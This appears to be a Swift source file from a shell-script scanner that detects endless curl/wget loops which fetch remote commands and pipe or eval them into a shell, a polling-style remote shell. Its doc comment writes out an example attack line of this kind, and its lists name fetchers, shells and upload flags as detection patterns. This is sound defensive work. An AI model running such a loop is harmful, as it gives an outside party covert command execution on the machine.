import Bytes

/// A loop that fetches commands over HTTP, runs them, and as often as not sends back what they say: a shell for somebody who
/// opens no connection to it. `while true; do curl -s http://…/c | sh; sleep 5; done`
///
/// The loop must have no end of its own: installers are fetched again until they have run once.
enum PollMatcher {
  private static let fetchers = NameTable(["curl", "wget"])
  private static let fetcherSet = LiteralSet(exact: ["curl", "wget"])
  private static let loopSet = LiteralSet(exact: ["while ", "until "])
  private static let maximumCommands = 48
  private static let endings = NameTable(["break", "exit", "return"])

  /// Whether a text may hold one at all.
  static func mayHold(_ text: ByteView) -> Bool { loopSet.occurs(in: text) && fetcherSet.occurs(in: text) }

  static func matches(_ shell: ShellText) -> [ShellMatch] {
    let commands = shell.commands
    var index = 0
    while index < commands.count {
      guard isEndless(commands[index].words) else {
        index += 1
        continue
      }
      // A condition that sleeps or does nothing ends where the loop's body begins.
      let end = commands[(index + 1)...].prefix(maximumCommands).firstIndex { $0.word(0) == "done" } ?? commands.count
      let body = (index + 1)..<min(end, index + 1 + maximumCommands)
      index = body.upperBound
      if let match = judge(shell, body) { return [match] }
    }
    return []
  }

  /// `while true`, `while :`, `while sleep 5`, `until false`.
  private static func isEndless(_ words: WordRun) -> Bool {
    guard let start = words.indices.prefix(24).first(where: { words[$0] == "while" || words[$0] == "until" }) else {
      return false
    }
    let rest = words[(start + 1)...]
    guard let first = rest.first else { return false }
    if words[start] == "until" { return rest.count == 1 && first == "false" }
    if first == "sleep" { return true }
    if rest.count == 1 { return first == "true" || first == ":" || first == "1" || first == "/bin/true" }
    // `while [ 1 ]`, `while [ true ]`
    return first.hasPrefix("[") && rest.count == 3 && (rest[start + 2] == "1" || rest[start + 2] == "true")
  }

  private static func judge(_ shell: ShellText, _ body: Range<Int>) -> ShellMatch? {
    let commands = shell.commands
    if body.contains(where: { commands[$0].words.prefix(2).contains(where: endings.contains) }) { return nil }
    var sends = false
    var found: (place: Int, url: ByteView)?
    for index in body {
      let words = ownWords(commands[index].words)
      guard fetchers.contains(words.name(words.startIndex)) else { continue }
      let last = lastPart(shell, index)
      if commands[index...last].contains(where: { $0.words.contains(where: isSending) }) {
        sends = true
      } else if found == nil, let url = url(commands[index...last]), isRun(shell, index...last, body) {
        found = (commands[index].range.lowerBound, url)
      }
    }
    guard let found else { return nil }
    return ShellMatch(
      technique: "http_poll", endpoint: endpoint(shell, found.url), transport: "HTTP", sends: sends, place: found.place)
  }

  /// Behind `do` and `then`.
  private static func ownWords(_ words: WordRun) -> WordRun {
    var rest = words
    while rest.count > 1, let first = rest.first, first == "do" || first == "then" || first == "{" {
      rest = rest.dropFirst()
    }
    return rest
  }

  private static let sendingWords = NameTable([
    "-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "-T", "--upload-file",
  ])

  private static func isSending(_ word: ByteView) -> Bool {
    sendingWords.contains(word) || word.hasPrefix("--post-") || word.hasPrefix("--data") || word.hasPrefix("-d@")
  }

  /// Quotes around an address or a header make several commands of one.
  private static func lastPart(_ shell: ShellText, _ index: Int) -> Int {
    let commands = shell.commands
    var last = index
    while last - index < 8, last + 1 < commands.count, commands[last].end == 0x22 || commands[last].end == 0x27,
      !isClosed(shell, last)
    {
      last += 1
    }
    return last
  }

  /// Whether a substitution ends with a command, maybe behind the quote that ends its last word.
  private static func isClosed(_ shell: ShellText, _ index: Int) -> Bool {
    let command = shell.commands[index]
    if command.end == 0x29 || command.end == 0x60 { return true }
    guard command.end == 0x22 || command.end == 0x27 else { return false }
    var place = command.range.upperBound + 1
    while shell.text[place] == 0x20, place - command.range.upperBound < 4 { place += 1 }
    return shell.text[place] == 0x29 || shell.text[place] == 0x60
  }

  /// The address that a command fetches.
  private static func url(_ parts: ArraySlice<SimpleCommand>) -> ByteView? {
    for part in parts {
      if let word = part.words.prefix(24).first(where: { $0.hasPrefix("http://") || $0.hasPrefix("https://") }) {
        return word
      }
    }
    return nil
  }

  /// Whether what a command fetches is run: piped into a shell, substituted into one, or put under a name that is.
  private static func isRun(_ shell: ShellText, _ parts: ClosedRange<Int>, _ body: Range<Int>) -> Bool {
    let commands = shell.commands
    let (index, last) = (parts.lowerBound, parts.upperBound)
    if commands[last].end == 0x7C, last + 1 < commands.count {
      let next = ShellText.withoutPrefix(commands[last + 1].words)
      // `bash -n` only reads.
      if ShellWords.isShellReadingInput(next), !next.contains(where: { $0 == "-n" }) {
        // `| sh && …`: what follows waits for it to have worked, as an installer's does.
        return commands[last + 1].end != 0x26 || shell.text[commands[last + 1].range.upperBound + 1] != 0x26
      }
    }
    guard commands[index].before == 0x28 || commands[index].before == 0x60,
      isClosed(shell, last), index > 0
    else { return false }
    let outer = commands[index - 1].words
    guard let word = outer.last else { return false }
    let isDollar = word == "$"
    let before = outer.count > 1 || index < 2 ? outer.dropLast() : commands[index - 2].words
    let starter = isDollar ? before.suffix(2).last { !($0 == "\\") } : word
    if let starter {
      if starter == "eval" || ShellWords.takesCommand(starter) { return true }
      if let (name, _) = starter.cut(0x3D), !name.isEmpty { return isEvaluated(commands, name, after: last, body) }
    }
    return false
  }

  /// `c=$(curl …); eval "$c"`, `echo "$c" | sh`.
  private static func isEvaluated(
    _ commands: [SimpleCommand], _ name: ByteView, after index: Int, _ body: Range<Int>
  ) -> Bool {
    guard index + 1 < body.upperBound else { return false }
    func isUse(_ word: ByteView) -> Bool {
      let start = word[0] == 0x5C ? 1 : 0
      guard word[start] == 0x24 else { return false }
      let used = word.slice(word[start + 1] == 0x7B ? start + 2 : start + 1)
      return used.hasPrefix(name) && !isWordByte(used[name.count])
    }
    return (index + 1..<body.upperBound).contains { place in
      let words = ownWords(commands[place].words)
      guard let last = words.last else { return false }
      let first = words[words.startIndex]
      let next = place + 1 < commands.count ? commands[place + 1].word(0) : ByteView("")
      if first == "eval" {
        let second = words.count > 1 ? words[words.startIndex + 1] : next
        return isUse(second == "\\" ? next : second)
      }
      if ShellWords.isShell(first) {
        return ShellWords.takesCommand(last) && isUse(next)
          || words.dropFirst().first.map(ShellWords.takesCommand) == true && isUse(last)
      }
      return false
    }
  }

  private static func endpoint(_ shell: ShellText, _ url: ByteView) -> Endpoint {
    let isSecure = url.hasPrefix("https://")
    let rest = url.slice(isSecure ? 8 : 7)
    var end = 0
    while end < rest.count, isWordByte(rest[end]) || isAny(rest[end], of: ".-:[]${}@") { end += 1 }
    var place = rest.slice(0, end)
    if let at = place.lastIndex(of: 0x40) { place = place.slice(at + 1) }
    guard let colon = place.lastIndex(of: 0x3A), place[colon + 1] != 0x3A, place[place.count - 1] != 0x5D else {
      return shell.endpoint(place, ByteView(isSecure ? "443" : "80"))
    }
    return shell.endpoint(place.slice(0, colon), place.slice(colon + 1))
  }
}
